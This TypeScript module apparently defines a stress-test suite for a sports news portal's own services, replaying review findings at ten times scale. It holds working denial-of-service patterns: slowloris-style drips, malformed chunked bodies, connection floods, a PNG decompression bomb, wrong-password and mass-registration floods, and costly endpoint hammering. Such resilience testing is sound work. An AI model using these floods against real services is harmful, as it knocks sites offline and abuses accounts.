import { pictureAddress, PICTURE_DIMENSIONS } from '@tribina/contracts';
import { randomUUID } from 'node:crypto';
import { deflateSync, crc32 } from 'node:zlib';
import type { Act, Asked, Attack, Target, Torn } from './attack';

/** Connections at which two cores take most calls; what is dear is asked for by ten times as many. */
const FULL = 16;
/** Each of them asks so often. */
const DEAR_EVERY_MS = 500;
const BATCH_EVENTS = 20;
const PIPELINED = 10;

const asked = (of: Asked): Act => ({ asked: of });
const torn = (left: Torn['left'], text: string): Act => ({ torn: { left, bytes: Buffer.from(text, 'latin1') } });
const json = (path: string, { host }: Target, body: object, headers: Readonly<Record<string, string>> = {}): Act =>
  asked({
    method: 'POST',
    path,
    headers: { origin: `http://${host}`, 'content-type': 'application/json', ...headers },
    body: Buffer.from(JSON.stringify(body)),
  });

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

/** A PNG of 49 million pixels in some 50 KB. */
function hugePicture(): Buffer {
  const side = 7_000;
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  // Eight bits of grey.
  header.set([8, 0, 0, 0, 0], 8);
  const pixels = deflateSync(Buffer.alloc(side * (side + 1)), { level: 9 });
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
}

const PICTURE = hugePicture();
const head = (method: string, path: string, { host }: Target, ...further: readonly string[]) =>
  [`${method} ${path} HTTP/1.1`, `host: ${host}`, `origin: http://${host}`, ...further, '', ''].join('\r\n');

const EVENTS = {
  fingerprint: '0'.repeat(32),
  token: 'a.b',
  consent: { s: true, p: true, m: true, v: 1 },
  site: 'rs',
  list: Array.from({ length: BATCH_EVENTS }, (_, index) => ({
    eventId: `018f0000-0000-7000-8000-${String(index).padStart(12, '0')}`,
    ts: 0,
    action: 'PAGE_VIEW',
  })),
};
const WORDS = ['gol', 'liga', 'transfer', 'derbi', 'trener', 'sudija', 'navijaci', 'poluvreme'];
const term = (nth: number) => `${WORDS[nth % WORDS.length]} ${WORDS[(nth * 5 + 3) % WORDS.length]} ${nth}`;

/** The attacks of the review that are a load, each ten times as large as it was there. */
export const ATTACKS: readonly Attack[] = [
  {
    name: 'slow-heads',
    before: 'Of 30 connections: headers by a letter a second',
    lanes: 300,
    everyMs: 1_000,
    addresses: 1,
    act: (_nth, target) => torn('drip', `GET / HTTP/1.1\r\nhost: ${target.host}\r\nx-a: `),
  },
  {
    name: 'slow-bodies',
    before: '5a: 30 connections with bodies that do not end',
    lanes: 300,
    everyMs: 1_000,
    addresses: 1,
    act: (_nth, target) =>
      torn(
        'drip',
        `${head('POST', '/portal/save-comment', target, 'content-type: application/json', 'content-length: 4000')}{`,
      ),
  },
  {
    name: 'broken-chunks',
    before: '4: 480 bodies in broken chunks',
    lanes: 100,
    // 4,800 in eight seconds.
    everyMs: 167,
    addresses: 1,
    act: (_nth, target) =>
      torn(
        { answers: 1 },
        `${head('POST', '/portal/save-comment', target, 'content-type: application/json', 'transfer-encoding: chunked')}ZZ\r\n`,
      ),
  },
  {
    name: 'upgrades',
    before: '2: upgrades, reset, five one after the other',
    lanes: 50,
    everyMs: 100,
    addresses: 1,
    act: (nth, target) =>
      torn('reset', head('GET', nth % 2 === 0 ? '/' : '//socket.io/', target, 'connection: Upgrade', 'upgrade: foo')),
  },
  {
    name: 'pipelined',
    before: `Of ten connections: ${PIPELINED} requests at once`,
    lanes: 100,
    everyMs: 1_000,
    addresses: 1,
    act: (nth, target) =>
      torn(
        { answers: PIPELINED },
        Array.from({ length: PIPELINED }, (_, index) =>
          head('GET', `/portal/single-article/${10_000_000 + nth * PIPELINED + index}`, target),
        ).join(''),
      ),
  },
  {
    name: 'uploads',
    before: '5b: 40 pictures of 50 megapixels at once by one member',
    lanes: 400,
    everyMs: 2_000,
    addresses: 1,
    act: (_nth, { host }, { session }) =>
      asked({
        method: 'POST',
        path: '/portal/account/picture',
        headers: { origin: `http://${host}`, 'content-type': 'image/png', cookie: session },
        body: PICTURE,
      }),
  },
  {
    name: 'comments',
    before: '3: a comment of 40 letters that is dear to match; here of 2,000',
    lanes: 10 * FULL,
    everyMs: DEAR_EVERY_MS,
    addresses: 10,
    act: (nth, target, { articleId }) =>
      json('/portal/save-comment', target, {
        news_id: articleId,
        text: `${'ahau'.repeat(490)} 1 ${nth}`,
        display_name: `Gledalac ${nth}`,
        client_key: randomUUID(),
      }),
  },
  {
    name: 'passwords',
    before: '13: five wrong passwords a minute',
    lanes: 10 * FULL,
    everyMs: DEAR_EVERY_MS,
    addresses: 10,
    isOnLogins: true,
    act: (nth, target) =>
      json('/api/login', target, { email: `crowd-${nth % 100}@tribina.example`, password: `wrong-${nth}` }),
  },
  {
    name: 'registrations',
    before: '14: 30 registrations from six addresses',
    lanes: 300,
    everyMs: 2_000,
    addresses: 60,
    act: (nth, target) =>
      json('/portal/register', target, {
        email: `stranger-${randomUUID()}@tribina.example`,
        display_name: `Stranac_${nth}`,
        password: 'zlatna-kopacka-93',
        consent: true,
      }),
  },
  {
    name: 'captcha',
    before: `Of ${FULL} connections: challenges and wrong answers to them`,
    lanes: 10 * FULL,
    everyMs: DEAR_EVERY_MS,
    addresses: 10,
    act: (nth, target) =>
      nth % 2 === 0
        ? asked({ method: 'GET', path: '/api/captcha-challenge' })
        : json('/api/verify-captcha', target, {
            token: Buffer.from('{"challenge":{},"solution":{}}').toString('base64'),
          }),
  },
  {
    name: 'search',
    before: `17: searches with a pass, by ${FULL} connections`,
    lanes: 10 * FULL,
    everyMs: DEAR_EVERY_MS,
    addresses: 10,
    act: (nth, _target, { searchPass }) =>
      asked({
        method: 'GET',
        path: `/api/search-news?${new URLSearchParams({ term: term(nth), limit: '10', offset: '0' }).toString()}`,
        headers: { cookie: searchPass },
      }),
  },
  {
    name: 'matches',
    before: `Of ${FULL} connections: matches by filters that nobody has asked for`,
    lanes: 10 * FULL,
    everyMs: DEAR_EVERY_MS,
    addresses: 10,
    act: (nth, target) => json('/api/feed-matches', target, { competitionIds: [1 + (nth % 400), 1_000 + nth] }),
  },
  {
    name: 'exports',
    before: `Of ${FULL} connections: a member’s export`,
    lanes: 10 * FULL,
    everyMs: DEAR_EVERY_MS,
    addresses: 1,
    act: (_nth, _target, { session }) =>
      asked({ method: 'GET', path: '/portal/export-profile', headers: { cookie: session } }),
  },
  {
    name: 'pictures',
    before: `Of ${FULL} connections: pictures in sizes that nobody has asked for`,
    lanes: 10 * FULL,
    everyMs: DEAR_EVERY_MS,
    addresses: 1,
    act: (nth, _target, { pictures }) => {
      const picture = pictures[nth % pictures.length];
      const dimension = PICTURE_DIMENSIONS[Math.floor(nth / pictures.length) % PICTURE_DIMENSIONS.length];
      if (!picture || !dimension) throw new Error('There are no pictures');
      return asked({ method: 'GET', path: pictureAddress(picture, dimension), headers: { accept: 'image/avif' } });
    },
  },
  {
    name: 'unknown-pages',
    before: `Of ${FULL} connections: pages that are in no memory`,
    lanes: 10 * FULL,
    everyMs: DEAR_EVERY_MS,
    addresses: 1,
    act: (nth) => asked({ method: 'GET', path: `/fudbal/vesti/nema-${nth}/${20_000_000 + nth}` }),
  },
  {
    name: 'events',
    before: `Of ${FULL} connections: events of visitors who are none`,
    lanes: 10 * FULL,
    everyMs: DEAR_EVERY_MS,
    addresses: 1,
    act: (_nth, target) => json('/msport-tracking/actions/save-multiple', target, { ...EVENTS, sentAt: Date.now() }),
  },
];
